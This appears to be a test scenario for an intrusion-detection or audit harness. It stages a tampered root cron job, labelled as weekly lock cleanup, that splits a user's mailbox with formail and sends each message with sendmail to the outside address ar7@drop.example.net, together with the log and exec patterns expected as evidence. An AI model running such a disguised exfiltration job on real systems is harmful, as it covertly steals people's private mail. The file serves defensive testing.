title="Every letter of another's box resent to the outside with formail and sendmail"
what="root's weekly cleanup job was changed by somebody: it runs formail over /var/mail/buyer, each message is handed to sendmail for an address outside. STIG-like rules, mail log present."
user=root daemons="cron sshd" store=mbox audit_rules=audit-exec.rules
setup() {
  printf '#!/bin/sh\n# weekly: old spool locks\nfind /var/mail -name "*.lock" -mtime +2 -delete\nformail -s /usr/sbin/sendmail -oi -f postmaster@example.org ar7@drop.example.net < /var/mail/buyer\n' > "$base/out/spool-clean"
  install_file "$base/out/spool-clean" /usr/local/sbin/spool-clean
  printf 'HOME=/\nMAILTO=""\n* * * * * root /usr/local/sbin/spool-clean\n' > /etc/cron.d/spool-clean; chmod 644 /etc/cron.d/spool-clean
}
act() {
  letters buyer 9; small_talk 3
  wait_log_count 'to=<ar7@drop.example.net>.*status=sent' 9 70
  rm /etc/cron.d/spool-clean
  small_talk 2
}
truth() {
  log_step job 'CMD.*spool-clean' 'cron'
  exec_step split 'formail -s /usr/sbin/sendmail' 'formail cuts the box'
  exec_step send 'sendmail -oi -f postmaster@example.org ar7@drop' 'each goes to sendmail'
  mail_step sent 'to=<ar7@drop.example.net>.*status=sent' 'and out'
}
